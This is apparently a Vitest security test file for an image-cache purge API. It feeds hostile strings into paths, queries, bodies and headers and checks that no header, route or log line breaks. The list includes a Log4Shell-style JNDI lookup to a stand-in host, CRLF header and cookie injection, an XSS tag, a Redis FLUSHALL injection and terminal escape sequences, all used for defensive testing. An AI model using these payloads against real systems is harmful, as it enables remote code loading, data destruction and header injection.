import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { descriptions } from "../../src/build/openapi.ts";
import { accepting, startApp, type TestApp, tokens } from "../support/app.ts";

/** Texts that end a line, move a cursor, reverse text, or reach a prototype. */
const hostile = [
  "\r\nX-Injected: 1",
  '\n{"at":"2026-11-15T12:00:00.000Z","event":"forged"}',
  "\u001b[2J\u001b]0;owned\u0007",
  "\u009b31m",
  "\u0000\u0008\u007f",
  "\u2028\u2029\u0085",
  "\u202edrow\u2066\u200f\ufeff",
  `\${jndi:ldap://evil.example}`,
  "__proto__",
  "<script>alert(1)</script>",
  "'); redis.call('FLUSHALL'); --",
  "%0d%0aSet-Cookie:%20a=b",
] as const;
const unprintable = /\p{Cc}|\p{Cf}|\p{Zl}|\p{Zp}/u;
const id = "p_01kaq3h8x0fj7m2k9t4v6w8y0z";

let desk: TestApp;
beforeAll(async () => {
  desk = await startApp();
  desk.imagekit.answer = accepting("Pending");
});
beforeEach(() => {
  desk.logged.length = 0;
});
afterAll(() => desk.close());

/** Each line is one JSON object with an event of ours, and nothing that a terminal would obey. */
function checkLog() {
  expect(desk.logged).not.toEqual([]);
  for (const line of desk.logged) {
    expect(line).not.toMatch(unprintable);
    expect(line.length).toBeLessThanOrEqual(8_000);
    expect(JSON.parse(line).event).toMatch(/^(request|purge|batch-reserved|imagekit-send|imagekit-poll)$/);
  }
}

describe.each(hostile.map((text) => [text]))("%j", (text) => {
  test(`${JSON.stringify(text)} in a path or a query breaks no route, header or log line`, async () => {
    for (const { route } of descriptions) {
      const method = route.method.toUpperCase();
      for (const path of [
        `${route.path.replace(":id", id)}/${encodeURIComponent(text)}`,
        route.path.replace(":id", encodeURIComponent(text)),
        `${route.path.replace(":id", id)}?${encodeURIComponent(text)}=${encodeURIComponent(text)}`,
      ]) {
        const answer = await desk.call(path, { method, token: tokens.admin });
        expect(answer.status, `${method} ${path}`).toBeLessThan(500);
        expect(answer.headers.get("X-Injected")).toBeNull();
        expect(answer.headers.get("Set-Cookie")).toBeNull();
      }
    }
    checkLog();
  });

  test(`${JSON.stringify(text)} in a URL, a reason or a text body is only data, and shown as text`, async () => {
    const url = `https://ik.imagekit.io/demo/x.jpg${text}`;
    for (const init of [
      { json: { urls: [url] } },
      { json: { urls: [`https://ik.imagekit.io/demo/x.jpg?x=${text}`], reason: text, onInvalid: "skip" } },
      {
        json: {
          urls: ["https://ik.imagekit.io/demo/ok.jpg"],
          reason: text,
          changedAt: "2026-01-01T00:00:00Z",
        },
      },
      { body: `${url}\n${text}`, type: "text/plain" },
    ]) {
      const answer = await desk.call("/api/purges", { method: "POST", token: tokens.admin, ...init });
      expect(answer.status).toBeLessThan(500);
      expect(answer.headers.get("Content-Type")).toMatch(/^application\/(problem\+)?json/);
      expect([...answer.headers.values()].join()).not.toContain(text);
    }
    checkLog();
  });

  test(`${JSON.stringify(text)} in the platform's request id never becomes a header`, async () => {
    const answer = await desk.call("/api/budget", { token: tokens.read, platform: { requestId: text } });
    expect(answer.headers.get("X-Request-Id")).toMatch(text === "__proto__" ? /^__proto__$/ : /^r_/);
  });
});

describe("an Idempotency-Key", () => {
  const submitWith = (key: string) => {
    const json = { urls: ["https://ik.imagekit.io/demo/key.jpg"], changedAt: "2026-01-01T00:00:00Z" };
    const headers = { "Idempotency-Key": key };
    return desk.call("/api/purges", { method: "POST", token: tokens.admin, json, headers });
  };
  const isPrintable = (text: string) => /^[ -~]+$/.test(text);

  test.each(hostile.filter(isPrintable))("%j in an Idempotency-Key is used whole", async (key) => {
    const first = await submitWith(key);
    expect(first.status).toBe(202);
    expect(await submitWith(key)).toMatchObject({ status: 200, body: { id: first.body.id } });
    expect((await submitWith(key.slice(0, -1))).status).toBe(202);
    checkLog();
  });

  /** A header may contain bytes only, and these not. */
  const isSent = (text: string) => !/[\r\n\0]|[^\0-\xff]/.test(text);
  const unprintableKeys = hostile.filter((text) => isSent(text) && !isPrintable(text));

  test.each(unprintableKeys)("%j in an Idempotency-Key is refused", async (key) => {
    const answer = await submitWith(key);
    expect([answer.status, answer.text]).toEqual([422, expect.stringContaining("Idempotency-Key")]);
    checkLog();
  });
});

describe("a query of 1 MB", () => {
  const long = "x".repeat(1_000_000);
  test.each([
    ["as a value", `q=${long}`],
    ["as a name", `${long}=1`],
    ["as a name twice", `${long}=1&${long}=2`],
    ["of one name", "q=a&".repeat(250_000)],
    ["of many names", Array.from({ length: 100_000 }, (_, n) => `a${n}=1`).join("&")],
    ["of many names twice each", Array.from({ length: 50_000 }, (_, n) => `a${n}=1&a${n}=2`).join("&")],
    ["of percent signs", "%".repeat(1_000_000)],
    ["of prototypes", "__proto__=1&".repeat(80_000)],
  ])("a query of 1 MB is refused with a short answer: %s", async (_, query) => {
    const answer = await desk.call(`/api/purges?${query}`, { token: tokens.read });
    expect(answer.status).toBe(422);
    expect(answer.text.length).toBeLessThan(10_000);
    checkLog();
  });

  test("a path or a query of 1 MB on an unknown route gets a short 404", async () => {
    const answer = await desk.call(`/api/purges/${long}`, { token: tokens.read });
    expect(answer.status).toBe(404);
    expect(answer.text.length).toBeLessThan(1_000);
    checkLog();
  });
});

test("every path of the document answers 405 to the methods that it does not describe", async () => {
  const paths = [...new Set(descriptions.map(({ route }) => route.path))];
  for (const path of paths) {
    // `/api/profiles/learn` is also the address of a profile called learn.
    const isOf = (template: string) => template === path || template.replace(":name", "learn") === path;
    const own = descriptions.filter(({ route }) => isOf(route.path)).map(({ route }) => route.method);
    for (const method of ["GET", "POST", "PUT", "PATCH", "DELETE", "PURGE", "PROPFIND"]) {
      if (own.some((each) => each.toUpperCase() === method)) continue;
      const answer = await desk.call(path.replace(":id", id), { method, token: tokens.admin });
      // Below /v1 errors have ImageKit's shape.
      const body = path.startsWith("/v1/")
        ? { message: "The method is not allowed here." }
        : { code: "method-not-allowed" };
      expect(answer, `${method} ${path}`).toMatchObject({ status: 405, body });
    }
  }
  checkLog();
});
